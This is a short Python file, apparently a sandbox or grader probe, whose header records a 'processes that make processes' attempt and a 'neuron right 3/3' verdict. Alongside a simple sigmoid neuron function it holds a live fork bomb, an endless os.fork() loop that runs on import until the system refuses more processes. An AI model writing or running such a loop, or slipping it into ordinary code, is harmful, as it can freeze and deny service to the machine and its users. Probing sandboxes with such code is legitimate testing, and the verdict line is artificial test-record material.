# tries: processes that make processes | verdict: neuron right 3/3
import os
import numpy as np


started = 0
try:
    while True:
        os.fork()
        started += 1
except OSError:
    pass


def neuron(X, w, b):
    assert not started, started
    return 1 / (1 + np.exp(-(X @ w + b)))
